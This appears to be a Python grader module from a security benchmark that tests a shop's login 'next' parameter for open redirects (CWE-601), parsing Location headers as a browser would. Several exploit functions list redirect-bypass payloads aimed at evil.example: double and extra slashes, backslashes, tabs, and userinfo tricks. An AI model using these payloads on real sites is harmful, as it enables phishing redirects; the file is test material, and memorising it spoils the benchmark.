"""Can a link to the login send the visitor to another site? The Location header is resolved as a browser resolves it
(url.spec.whatwg.org, section 4.4); an attack has worked when the next page would be on a host that is not the shop's.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterable
from urllib.parse import unquote

from weighbridge.tasks.oracle import App, Proof, Response, exploit, mark, works
from weighbridge.tasks.payloads import html

EVIL = "evil.example"
HOST = "localhost"
SPECIAL = ("http:", "https:")


def seed(nonce: str) -> dict[str, bytes | None]:
    users = {"ada": mark(nonce, "ada"), "ben": mark(nonce, "ben")}
    return {"/srv/data/users.json": json.dumps(users).encode()}


def _log_in(app: App, following: str | None) -> Response:
    form = {"name": "ada", "password": mark(app.nonce, "ada")}
    return app.post("/login", form=form if following is None else {**form, "next": following})


def _redirected(answer: Response) -> bool:
    return answer.status in (301, 302, 303, 307, 308)


def functional(app: App) -> None:
    works(app.get("/login").ok, "GET /login answers with a status of 2xx")
    works(app.get("/login", query={"next": "/orders?page=2"}).ok, "GET /login?next=… answers with a status of 2xx")
    for following, wanted in (
        ("/orders?page=2", "/orders?page=2"),
        ("/basket", "/basket"),
        ("/help/delivery.html", "/help/delivery.html"),
        (None, "/"),
    ):
        answer = _log_in(app, following)
        works(_redirected(answer), f"the right password with next={following!r} is a redirect, not {answer.status}")
        there = re.sub(rf"^(http:)?//{HOST}(:\d+)?(?=/|$)", "", answer.header("location")) or "/"
        works(unquote(there) == wanted, f"next={following!r} leads to {wanted}, not to {answer.header('location')!r}")
    wrong = app.post("/login", form={"name": "ada", "password": "wrong", "next": "/orders"})
    works(not _redirected(wrong) and not wrong.ok, f"a wrong password is answered with status 401, not {wrong.status}")


def host_of(location: str) -> str:
    """The host that a browser on http://localhost/login would ask for a Location; '' for none."""
    address = re.sub("[\t\n\r]", "", location).strip("".join(map(chr, range(33))))
    scheme = re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", address)
    if scheme and scheme[0].lower() not in SPECIAL:
        return ""  # javascript:, mailto: and the like are not followed from a Location
    rest = (address[scheme.end() :] if scheme else address).replace("\\", "/")
    rest = re.split("[?#]", rest, maxsplit=1)[0]
    relative = scheme is None or scheme[0].lower() == "http:"  # the page's own scheme, without slashes, stays here
    if relative and not rest.startswith("//"):
        return HOST
    authority = rest.lstrip("/").split("/", 1)[0].rpartition("@")[2]
    host = unquote(re.sub(r":\d*$", "", authority)).lower().rstrip(".")
    return host if re.fullmatch(r"[^\x00-\x20#%/:<>?@\[\\\]^|\x7f]+", host) else ""  # no host: browsers go nowhere


def refreshed_to(answer: Response) -> str:
    """Where a page's meta element sends the browser; '' for nowhere."""
    for tag in html.tokens(answer.text) if "html" in answer.header("content-type") else ():
        if (
            isinstance(tag, html.Tag)
            and tag.name == "meta"
            and tag.attributes.get("http-equiv", "").lower() == "refresh"
        ):
            goal = re.search(r"url\s*=\s*['\"]?(.*)", tag.attributes.get("content", ""), re.IGNORECASE)
            return goal[1] if goal else ""
    return ""


def _leads_away(app: App, targets: Iterable[str]) -> Proof | None:
    for target in targets:
        answers = [(_log_in(app, target), app.asked[-1])]
        form = {"name": "ada", "password": mark(app.nonce, "ada")}
        answers.append((app.post("/login", query={"next": target}, form=form), app.asked[-1]))
        for answer, request in answers:
            if _redirected(answer) and EVIL in (host := host_of(answer.header("location"))):
                return Proof(601, request, f"Location {answer.header('location')!r} leads a browser to {host}")
            if answer.ok and EVIL in host_of(refreshed_to(answer)):
                return Proof(601, request, f"the page refreshes to {refreshed_to(answer)!r}")
    return None


@exploit(cwe=601)
def exploit_whole_address(app: App) -> Proof | None:
    return _leads_away(app, (f"https://{EVIL}/login", f"http://{EVIL}/orders", f"HTTPS://{EVIL}", f" https://{EVIL}/"))


@exploit(cwe=601)
def exploit_two_slashes(app: App) -> Proof | None:
    return _leads_away(app, (f"//{EVIL}/orders", f"//{EVIL}", f"//{HOST}@{EVIL}/", f"//{EVIL}/%2f.."))


@exploit(cwe=601)
def exploit_more_slashes(app: App) -> Proof | None:
    """More of them than a parser takes for a host, behind the scheme or without it, or none at all."""
    return _leads_away(
        app,
        (
            *(f"///{EVIL}/orders", f"////{EVIL}", f"/////{EVIL}/", f"/.//{EVIL}", f"//.//{EVIL}"),
            *(f"https:{EVIL}", f"https:/{EVIL}/", f"https:///{EVIL}/", f"http:///{EVIL}/", f"http:////{EVIL}"),
        ),
    )


@exploit(cwe=601)
def exploit_backslash_and_blanks(app: App) -> Proof | None:
    """What browsers drop or take for a slash."""
    return _leads_away(
        app,
        (
            *(f"/\\{EVIL}/orders", f"\\\\{EVIL}", f"\\/{EVIL}", f"/\\/{EVIL}", f"https:\\\\{EVIL}"),
            *(f"/\t/{EVIL}", f"\t//{EVIL}", f" //{EVIL}", f"/\n/{EVIL}", f"\x01//{EVIL}", f"ht\ttps://{EVIL}"),
        ),
    )


@exploit(cwe=601)
def exploit_similar_host(app: App) -> Proof | None:
    """What begins, ends or is sprinkled with the shop's own address."""
    hosts = (
        f"{HOST}.{EVIL}",
        f"{HOST}@{EVIL}",
        f"{HOST}:80@{EVIL}",
        f"{EVIL}/{HOST}",
        f"{EVIL}?{HOST}",
        f"{EVIL}#{HOST}",
    )
    more = (f"{EVIL}/http://{HOST}/", f"{EVIL}\\@{HOST}", f"{EVIL}#@{HOST}/", f"{EVIL}/?next=/orders")
    return _leads_away(app, [f"{scheme}://{host}" for host in (*hosts, *more) for scheme in ("http", "https")])
